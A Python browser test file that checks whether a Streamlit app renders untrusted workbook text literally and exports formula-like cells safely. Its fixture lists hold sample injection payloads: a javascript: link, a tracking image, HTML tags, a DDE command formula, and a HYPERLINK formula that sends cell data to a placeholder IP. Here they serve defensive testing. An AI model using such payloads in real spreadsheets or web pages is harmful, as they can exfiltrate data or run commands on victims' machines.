"""Items 6 and 7 of issue 15 in a real browser (Debian's Chromium): workbook text escaped by
analytics.literal renders as its own characters (no link, image, KaTeX, colour directive, emoji or
HTML) in st.markdown, st.caption, st.info, an expander label and a metric label; Streamlit's own
table toolbar ("Download as CSV", exported raw: formula injection) is hidden by the app's CSS, and
the product's .xlsx download writes formula-like text as text."""
from __future__ import annotations

import io
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import time
import urllib.request
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from app_lib.export import to_xlsx_bytes

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  "--no-first-run"]
HOSTILE = ["[点我](javascript:alert(1))项目", "![追踪](http://198.51.100.7/t.png)图", ":red[已停工]项目",
           "$x^2$ 与 $$y$$", "详见 www.example.com 或 http://example.com", "<b>粗</b><img src=x>",
           "1. 第一项", "- 列表项", ":smile: 表情", "**加粗** _斜_ ~~删~~ `代码`", "# 标题", "> 引用"]
FORMULAS = ['=HYPERLINK("http://198.51.100.7/?d="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"]

APP = textwrap.dedent(f"""
    import sys
    sys.path.insert(0, {str(ROOT)!r})
    import pandas as pd
    import streamlit as st
    from analytics import literal
    from app_lib import ui
    ui.style()
    values = {HOSTILE!r}
    for i, v in enumerate(values):
        st.markdown(literal.text(v))
        st.caption(literal.text(v))
    st.info(literal.text(values[0]))
    with st.expander(literal.text(values[2])):
        st.write("x")
    st.metric(literal.text(values[3]), "1")
    st.dataframe(pd.DataFrame({{"名称": {FORMULAS!r}}}), key="t")
""")

pytestmark = [pytest.mark.browser, pytest.mark.slow,
              pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="未找到 Debian 的 chromium，跳过浏览器测试")]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    d = tmp_path_factory.mktemp("literal_app")
    (d / "app.py").write_text(APP, encoding="utf-8")
    shutil.copytree(ROOT / ".streamlit", d / ".streamlit")
    port = _free_port()
    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port),
                             "--server.headless", "true", "--server.fileWatcherType", "none"],
                            cwd=d, env={**os.environ}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    for _ in range(200):
        try:
            urllib.request.urlopen(f"{url}/_stcore/health", timeout=2)
            break
        except OSError:
            if proc.poll() is not None:
                raise RuntimeError(proc.stdout.read().decode(errors="replace"))
            time.sleep(0.3)
    yield url
    proc.terminate()
    proc.wait(timeout=10)


def test_escaped_workbook_text_renders_as_its_characters(server):
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS, headless=True)
        page = browser.new_page(viewport={"width": 1366, "height": 768})
        requests = []
        page.on("request", lambda r: requests.append(r.url))
        page.goto(server)
        page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=60000)
        page.wait_for_selector('[data-testid="stMetric"]', timeout=60000)
        page.wait_for_timeout(1000)
        found = page.evaluate("""() => {
            const root = document.querySelector('[data-testid="stMain"]');
            const md = [...root.querySelectorAll('[data-testid="stMarkdownContainer"], [data-testid="stCaptionContainer"]')]
                .filter(e => !e.parentElement.closest('[data-testid="stCaptionContainer"]'));
            return {
                texts: md.map(e => e.innerText.replace(/\\u2060/g, '').trim()),
                links: [...root.querySelectorAll('[data-testid="stMarkdownContainer"] a')].map(a => a.outerHTML),
                images: root.querySelectorAll('[data-testid="stMarkdownContainer"] img').length,
                katex: root.querySelectorAll('.katex').length,
                styled: root.querySelectorAll('[data-testid="stMarkdownContainer"] span[style], '
                    + '[data-testid="stMarkdownContainer"] b, [data-testid="stMarkdownContainer"] strong, '
                    + '[data-testid="stMarkdownContainer"] em, [data-testid="stMarkdownContainer"] del, '
                    + '[data-testid="stMarkdownContainer"] code, [data-testid="stMarkdownContainer"] h1, '
                    + '[data-testid="stMarkdownContainer"] ol, [data-testid="stMarkdownContainer"] ul, '
                    + '[data-testid="stMarkdownContainer"] blockquote').length,
                toolbar: [...document.querySelectorAll('[data-testid="stElementToolbar"]')]
                    .map(e => getComputedStyle(e).display),
            };
        }""")
        # hovering the table would show Streamlit's toolbar (Download as CSV / Search / Fullscreen)
        page.hover('[data-testid="stDataFrame"]')
        page.wait_for_timeout(500)
        visible_toolbar_buttons = page.evaluate("""() => [...document.querySelectorAll(
            '[data-testid="stElementToolbar"] button')].filter(b => b.offsetParent !== null).length""")
        browser.close()
    for v in HOSTILE:
        assert found["texts"].count(v) >= 2, (v, "\n".join(found["texts"]))
    assert found["links"] == [] and found["images"] == 0 and found["katex"] == 0 and found["styled"] == 0, found
    assert not [u for u in requests if "198.51.100.7" in u or "example.com" in u]
    assert visible_toolbar_buttons == 0 and all(d == "none" for d in found["toolbar"]), found["toolbar"]


def test_the_products_xlsx_download_writes_formula_like_text_as_text():
    data = to_xlsx_bytes(pd.DataFrame({"name": FORMULAS}), {"name": "名称"})
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None][1:]
    assert [c.data_type for c in cells] == ["s"] * len(FORMULAS)
    assert [c.value for c in cells] == ["'" + f for f in FORMULAS]
